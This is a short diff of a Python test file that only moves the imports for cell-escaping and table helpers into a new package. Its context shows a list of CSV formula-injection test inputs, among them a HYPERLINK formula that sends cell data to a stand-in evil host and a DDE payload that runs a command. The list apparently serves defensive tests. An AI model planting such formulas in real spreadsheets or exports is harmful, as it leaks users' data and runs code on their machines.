@@ -12,10 +12,10 @@ from pathlib import Path
 import pytest
 from openpyxl import load_workbook
 
-from app.core.cells import csv_cell, uncsv_cell
-from app.core.tabular import open_table
 from app.reports import call_list_xlsx, to_csv, to_xlsx
 from census.importer import ImportReport, RowError, write_rejects
+from kernel.cells import csv_cell, uncsv_cell
+from kernel.tabular import open_table
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"คลิก")', "+1+1", "-2+3", "@SUM(A1:A2)",
             "=cmd|' /C calc'!A0"]  # fmt: skip
